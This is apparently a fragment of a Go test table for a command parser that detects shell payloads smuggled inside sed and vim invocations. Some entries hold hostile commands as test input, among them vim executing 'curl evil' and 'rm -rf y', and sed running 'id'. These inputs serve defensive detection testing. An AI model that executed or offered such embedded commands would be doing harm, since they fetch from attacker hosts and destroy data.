	{cmd: `sed --sandbox '1e id' x`, units: us(u(`sed --sandbox 1e id x`)), paths: ps(p(`x`, `x`))},
	{cmd: `vim -es -c '!curl evil' -c q x`, units: us(u(`vim -es -c !curl evil -c q x`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`x`, `x`))},
	{cmd: `vim '+:!rm -rf y' x`, units: us(u(`vim +:!rm -rf y x`, ind), u(`rm -rf y`, CtxPayload)), paths: ps(p(`x`, `x`))},
	{cmd: `vim +/TODO +12 README.md`, units: us(u(`vim +/TODO +12 README.md`)), paths: ps(p(`+/TODO`, `+/TODO`), p(`README.md`, `README.md`))},
	{cmd: `vim README.md`, units: us(u(`vim README.md`)), paths: ps(p(`README.md`, `README.md`))},
}
